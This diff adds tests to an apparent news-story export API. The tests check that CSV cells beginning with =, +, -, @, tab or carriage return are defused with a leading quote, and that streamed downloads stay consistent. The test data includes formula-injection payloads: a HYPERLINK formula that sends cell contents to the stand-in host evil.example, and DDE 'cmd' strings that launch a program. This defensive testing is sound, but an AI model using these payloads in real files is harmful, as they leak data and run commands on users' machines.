@@ -7,6 +7,7 @@ import html
 import io
 import json
 import re
+from decimal import Decimal
 
 import pytest
 from wagtail.models import PageViewRestriction
@@ -213,3 +214,74 @@ def test_search_down_a_download_with_words_answers_503_with_retry_after(
     assert "temporarily unavailable" in response.json()["detail"]
     # Filters alone come from the database and keep working.
     assert len(titles(client.get("/api/stories/export.csv?industry=seafood"))) == 4
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Read the full story")'
+
+
+def test_a_cell_a_spreadsheet_would_run_is_downloaded_as_text(client, published):
+    seafood = IndustryFactory(name="Seafood", slug="seafood")
+    published(story(FORMULA, summary="@SUM(1+1)*cmd|' /C calc'!A0", industry=seafood))
+    published(
+        BrightSpotPageFactory(
+            title="Overtime cut on two trawler fleets",
+            industry=seafood,
+            metric=MetricDefinitionFactory(name="Overtime", slug="overtime", unit="hours"),
+            metric_value=Decimal("-12.5"),
+            metric_precision="exact",
+        )
+    )
+
+    found = {r["type"]: r for r in rows(client.get("/api/stories/export.csv?industry=seafood"))}
+    assert found["case-study"]["title"] == "'" + FORMULA
+    assert found["case-study"]["summary"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    # A negative figure is a number, not a formula: written as it is.
+    assert float(found["bright-spot"]["headline_value"]) == -12.5
+    # JSON is not opened by spreadsheets: there the title is exactly as published.
+    document = client.get("/api/stories/export.json?industry=seafood")
+    results = json.loads(b"".join(document.streaming_content))["results"]
+    assert FORMULA in {r["title"] for r in results}
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-1-1", "'-1-1"),  # a sum, not a number
+        ("-12.5", "-12.5"),
+        ("+3", "+3"),
+        ("-1.5e3", "-1.5e3"),
+        ("-20..-10", "-20..-10"),  # a published range
+        ("Fees = wages", "Fees = wages"),
+        ("", ""),
+    ],
+)
+def test_which_cells_the_csv_guard_quotes(cell, written):
+    from base.csv import safe_cell
+
+    assert safe_cell(cell) == written
+
+
+def test_a_story_published_during_a_long_download_neither_repeats_nor_skips_a_row(
+    client, collection, published
+):
+    address = "/api/stories/export.csv?q=recruitment+fees"
+    before = titles(client.get(address))
+    assert len(before) == 7
+
+    response = client.get(address)  # read three stories at a time (``collection``)
+    stream = iter(response.streaming_content)
+    head = [next(stream) for _ in range(3)]  # the header and two rows of the first batch
+    # A new match between two batches shifts every relevance score (and, without a
+    # point in time, the cursor with them).
+    published(story("Recruitment fees repaid: recruitment fees refunded to dockworkers"))
+    text = b"".join([*head, *stream]).decode()
+    during = [row["title"] for row in csv.DictReader(io.StringIO(text))]
+
+    assert sorted(during) == sorted(before), "one snapshot: no row twice, none missing"
+    assert len(titles(client.get(address))) == 8  # the next download has the new story
